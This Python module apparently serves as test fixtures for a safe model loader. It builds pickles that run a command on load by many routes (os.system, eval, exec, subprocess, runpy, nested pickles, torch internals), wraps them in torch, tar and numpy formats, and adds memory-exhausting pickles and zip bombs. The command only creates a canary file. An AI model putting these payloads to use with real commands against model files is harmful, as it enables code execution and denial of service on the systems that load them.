"""Pickles that run a command where they are loaded, by every way there is, and pickles that eat memory or time.

The command makes a file, the canary. None of these may ever be loaded outside of a process made for it.
"""

from __future__ import annotations

import io
import pickle
import struct
import tarfile
import zipfile
from pathlib import Path

import numpy as np
import torch


class _Runs:
    """Pickled, a call of `os.system`."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, (self.command,)


def _text(word: str) -> bytes:
    """SHORT_BINUNICODE or BINUNICODE."""
    data = word.encode()
    return b"\x8c" + bytes([len(data)]) + data if len(data) < 256 else b"X" + struct.pack("<I", len(data)) + data


def running(canary: Path) -> dict[str, bytes]:
    """Pickles that make the canary when Python's own loader opens them."""
    command = f"touch {canary}"
    python = f"open({str(canary)!r}, 'w').close()"
    word, code = _text(command), _text(python)
    popen, args = b"csubprocess\ncall\n", b"](" + _text("touch") + _text(str(canary)) + b"e"
    inner = b"cos\nsystem\n" + word + b"\x85R."
    packed = b"B" + struct.pack("<I", len(inner)) + inner
    return {
        "GLOBAL os.system": b"\x80\x02cos\nsystem\n" + word + b"\x85R.",
        "GLOBAL posix.system": b"\x80\x02cposix\nsystem\n" + word + b"\x85R.",
        "text opcodes": f"cos\nsystem\n(S'{command}'\ntR.".encode(),
        "STACK_GLOBAL": b"\x80\x04" + _text("os") + _text("system") + b"\x93" + word + b"\x85R.",
        "builtins.eval": b"\x80\x02c__builtin__\neval\n" + _text(f"__import__('os').system({command!r})") + b"\x85R.",
        "builtins.exec": b"\x80\x02cbuiltins\nexec\n" + code + b"\x85R.",
        "getattr": b"\x80\x02cbuiltins\ngetattr\n(cbuiltins\n__import__\n"
        + _text("os")
        + b"\x85R"
        + _text("system")
        + b"tR"
        + word
        + b"\x85R.",
        "INST": f"(S'{command}'\nios\nsystem\n.".encode(),
        "OBJ": b"(cos\nsystem\n" + word + b"o.",
        "NEWOBJ_EX": b"\x80\x04cbuiltins\nobject\n)}\x920cos\nsystem\n" + word + b"\x85R.",
        "BUILD with __setstate__": b"\x80\x02ctypes\nSimpleNamespace\n)\x81}"
        + _text("__setstate__")
        + b"cos\nsystem\nsb"
        + word
        + b"b.",
        "subprocess": b"\x80\x02" + popen + args + b"\x85R.",
        "runpy": b"\x80\x02crunpy\n_run_code\n"
        + b"cbuiltins\ncompile\n"
        + code
        + _text("x")
        + _text("exec")
        + b"\x87R}\x86R.",
        "pickle within a pickle": b"\x80\x03cpickle\nloads\n" + packed + b"\x85R.",
        "torch.storage._load_from_bytes": b"\x80\x03ctorch.storage\n_load_from_bytes\n" + packed + b"\x85R.",
        "a key of a dict": b"\x80\x02}cos\nsystem\n" + word + b"\x85RNs.",
        "after a state dict": b"\x80\x02ccollections\nOrderedDict\n)R("
        + _text("fc.weight")
        + b"cos\nsystem\n"
        + word
        + b"\x85Ru.",
    }


def eating() -> dict[str, bytes]:
    """Pickles of no code that take memory or time without end."""
    tuples = b")" + b"".join(b"q" + bytes([n]) + b"h" + bytes([n]) + b"\x86" for n in range(60))
    return {
        "bytearray of 20 GB": b"\x80\x02cbuiltins\nbytearray\n\x8a\x05" + struct.pack("<Q", 20 << 30)[:5] + b"\x85R.",
        "a tensor of 4 TB": b"\x80\x02ctorch\nFloatTensor\n\x8a\x06" + struct.pack("<Q", 1 << 40)[:6] + b"\x85R.",
        "tuples of tuples as a key": b"\x80\x02}" + tuples + b"Ns.",
        "lists without end": b"\x80\x02" + b"](" * 100_000 + b"." ,
        "a text of 4 GB": b"\x80\x02X\xff\xff\xff\xffabc.",
        "extension codes": b"\x80\x02\x82\x01\x83\x01\x01\x84\x01\x01\x01\x01.",
        "a memo far away": b"\x80\x02Nr\xff\xff\xff\x7f.",
    }  # fmt: skip


def in_zip(pickled: bytes) -> bytes:
    """A torch file of today around a pickle."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as file:
        file.writestr("archive/data.pkl", pickled)
        file.writestr("archive/byteorder", "little")
        file.writestr("archive/version", "3\n")
        file.writestr("archive/data/0", bytes(64))
    return data.getvalue()


def in_old_file(pickled: bytes) -> bytes:
    """A torch file of before 1.6 around a pickle."""
    parts = (0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": {}})
    return b"".join(pickle.dumps(part, protocol=2) for part in parts) + pickled + pickle.dumps([], protocol=2)


def in_tar(pickled: bytes) -> bytes:
    """A torch file of 2016 around a pickle."""
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w") as file:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            entry = tarfile.TarInfo(name)
            entry.size = len(pickled)
            file.addfile(entry, io.BytesIO(pickled))
    return data.getvalue()


def numpy_file(canary: Path) -> bytes:
    """An .npy file of objects."""
    data = io.BytesIO()
    np.save(data, np.array([_Runs(f"touch {canary}")], dtype=object), allow_pickle=True)
    return data.getvalue()


def saved_by_torch(canary: Path, old: bool) -> bytes:
    """What torch itself saves of an object whose loading runs a command."""
    data = io.BytesIO()
    torch.save({"state_dict": _Runs(f"touch {canary}")}, data, _use_new_zipfile_serialization=not old)
    return data.getvalue()


def odd_tensors() -> dict[str, dict[str, torch.Tensor]]:
    """State dicts of tensors that are more, or something else, than the file holds."""
    return {
        "one number repeated 30 billion times": {
            "fc.weight": torch.zeros(1).expand(10**9, 32),
            "fc.bias": torch.zeros(1).expand(10**9),
        },
        "a tensor without numbers": {"fc.weight": torch.zeros(2, 2, device="meta")},
        "a sparse tensor": {
            "fc.weight": torch.sparse_coo_tensor(
                torch.zeros(2, 1, dtype=torch.long), torch.ones(1), (10**6, 10**6), check_invariants=True
            )
        },
    }


def bomb(size: int) -> bytes:
    """A packed torch file that unpacks to so many bytes of zeros."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as file:
        file.writestr("archive/data.pkl", b"\x80\x02}.")
        file.writestr("archive/version", "3\n")
        with file.open("archive/data/0", "w", force_zip64=True) as entry:
            for _ in range(size >> 20):
                entry.write(bytes(1 << 20))
    return data.getvalue()


def overlapping(names: int, size: int) -> bytes:
    """An archive whose directory names the same bytes again and again."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as file:
        file.writestr("archive/data.pkl", b"\x80\x02}.")
        file.writestr("archive/data/0", bytes(size))
        one = file.infolist()[-1]
        for number in range(1, names):
            again = zipfile.ZipInfo(f"archive/data/{number}")
            again.file_size, again.compress_size, again.CRC = one.file_size, one.compress_size, one.CRC
            again.header_offset = one.header_offset
            file.filelist.append(again)
        file._didModify = True  # type: ignore[attr-defined]
    return data.getvalue()
